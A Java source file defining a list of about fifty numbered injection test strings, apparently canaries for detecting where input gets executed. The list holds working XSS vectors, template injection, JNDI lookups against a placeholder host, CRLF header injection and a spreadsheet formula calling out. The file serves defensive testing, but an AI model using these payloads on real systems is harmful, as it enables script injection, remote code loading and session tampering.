// SPDX-License-Identifier: Apache-2.0
package io.tracklayer.routes;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

/**
 * Texts each of which some program would run somewhere: if one is, it calls {@code canary} with its
 * number or asks the forbidden host for something.
 */
final class Canaries {
    private static final List<String> PATTERNS =
            List.of(
                    "<script>canary(#)</script>",
                    "</script><script>canary(#)</script>",
                    "<script src=//HOST/#></script>",
                    "<img src=x# onerror=canary(#)>",
                    "<img src=//HOST/# alt=#>",
                    "\"><img src=x onerror=canary(#)>",
                    "'><img src=x onerror=canary(#)>",
                    "\" onmouseover=canary(#) autofocus onfocus=canary(#) x=\"",
                    "' onfocus=canary(#) autofocus tabindex=0 x='",
                    "` onfocus=canary(#) autofocus `",
                    "x onfocus=canary(#) autofocus tabindex=1",
                    "<svg onload=canary(#)>",
                    "<svg><script>canary(#)</script></svg>",
                    "<svg><animate onbegin=canary(#) attributeName=x dur=1s>",
                    "<svg><a xlink:href=\"javascript:canary(#)\"><text x=20 y=20>#</text></a>",
                    "<math><mtext></mtext><img src=x onerror=canary(#)></math>",
                    "<iframe src=\"javascript:parent.canary(#)\"></iframe>",
                    "<iframe srcdoc=\"<script>parent.canary(#)</script>\"></iframe>",
                    "<object data=//HOST/#></object><embed src=//HOST/#>",
                    "<details open ontoggle=canary(#)>",
                    "<input autofocus onfocus=canary(#)>",
                    "<video><source onerror=canary(#)></video>",
                    "<body onload=canary(#)>",
                    "<meta http-equiv=refresh content=\"0;url=//HOST/#\">",
                    "<base href=//HOST/#/>",
                    "<link rel=stylesheet href=//HOST/#>",
                    "<style>@import '//HOST/#';*{background:url(//HOST/#)}</style>",
                    "</title></textarea></pre></style></noscript><img src=x onerror=canary(#)>",
                    "<!--><img src=x onerror=canary(#)>-->",
                    "<form action=//HOST/#><button autofocus onfocus=canary(#)>#</button></form>",
                    "<template shadowrootmode=open><img src=x onerror=canary(#)></template>",
                    "javascript:canary(#)",
                    "JaVaScRiPt:canary(#)//",
                    "data:text/html,<script>opener.canary(#)</script>#",
                    "\"};canary(#);//",
                    "\\u003cimg src=x onerror=canary(#)\\u003e",
                    "\\x3cscript\\x3ecanary(#)\\x3c/script\\x3e",
                    "&lt;img src=x onerror=canary(#)&gt;",
                    "&#60;script&#62;canary(#)&#60;/script&#62;",
                    "');canary(#);('",
                    "{{constructor.constructor('canary(#)')()}}",
                    "${canary(#)}#{canary(#)}<%=canary(#)%>",
                    "${bean:intake?method=receive}# canary ${header.CamelHttpUri} ${env:PATH}",
                    "${jndi:ldap://HOST/#} ${${lower:j}ndi:rmi://HOST/#}",
                    "__proto__ constructor canary #",
                    "\u202etxt.exe# \u2066canary\u2069 \u200f",
                    "canary # \ud83d\udc26 \ufeff\u2028canary(#)\u2029",
                    "line # one\r\nSet-Cookie: canary=#\r\n\r\n<script>canary(#)</script>",
                    "expression(canary(#)) url(//HOST/#) ;background:url(//HOST/#)",
                    "=HYPERLINK(\"//HOST/#\",\"canary\") @SUM(#)");

    private Canaries() {}

    /** All of them, each with its number. */
    static List<String> all(String host) {
        return IntStream.range(0, PATTERNS.size())
                .mapToObj(
                        i ->
                                PATTERNS.get(i)
                                        .replace("HOST", host)
                                        .replace("#", Integer.toString(i)))
                .toList();
    }

    /** All of them, many in one text, each text short enough for a query parameter. */
    static List<String> together(String host, int longest) {
        List<String> texts = new ArrayList<>();
        StringBuilder text = new StringBuilder();
        for (String canary : all(host)) {
            if (text.length() + canary.length() > longest) {
                texts.add(text.toString());
                text.setLength(0);
            }
            text.append(canary);
        }
        texts.add(text.toString());
        return texts;
    }

    /** The same where only printable ASCII may stand. */
    static String printable(String canary) {
        return canary.replaceAll("[^ -~]", ".");
    }
}
